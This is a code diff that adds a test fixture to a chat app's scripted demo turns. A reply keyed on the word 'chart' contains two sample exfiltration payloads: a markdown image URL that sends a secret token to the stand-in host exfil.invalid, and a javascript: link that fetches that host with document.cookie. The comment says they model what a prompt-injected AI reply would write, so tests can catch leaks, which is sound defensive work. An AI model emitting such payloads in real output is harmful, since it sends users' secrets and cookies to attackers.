@@ -185,11 +185,22 @@ const slowAnswer = `This is the slow demo answer. It streams a few characters at
 
 Outrigger keeps every turn durable: each event is committed before it reaches your browser, and a reload picks up exactly where the stream was. ${'The answer goes on, and on, one small piece at a time. '.repeat(12)}`;
 
+/**
+ * What a prompt-injected reply would write to get data out: an image whose URL carries it (fetched the moment
+ * an `<img>` renders) and a `javascript:` link. `exfilHost` is a name that resolves nowhere, so a test can
+ * watch for any request to it.
+ */
+export const exfilHost = 'exfil.invalid';
+const exfilAnswer = `Here is the chart you asked for: ![the usage chart](http://${exfilHost}/collect?d=secret-token)
+
+And [a harmless-looking link](javascript:fetch('http://${exfilHost}/?d='+document.cookie)) next to [the docs](https://example.com/docs).`;
+
 export type TurnScript = (io: TurnIO, prompt: string) => Promise<void>;
 
 /** Scripted turns keyed by a word in the prompt, like the demo model's. */
 export const turnScripts: readonly (readonly [RegExp, TurnScript])[] = [
   [/\bmarkdown\b/i, async (io) => io.stream('text', markdownAnswer, 24, 20)],
+  [/\bchart\b/i, async (io) => io.stream('text', exfilAnswer, 24, 20)],
   [
     /\b(think|reason)\b/i,
     async (io) => {
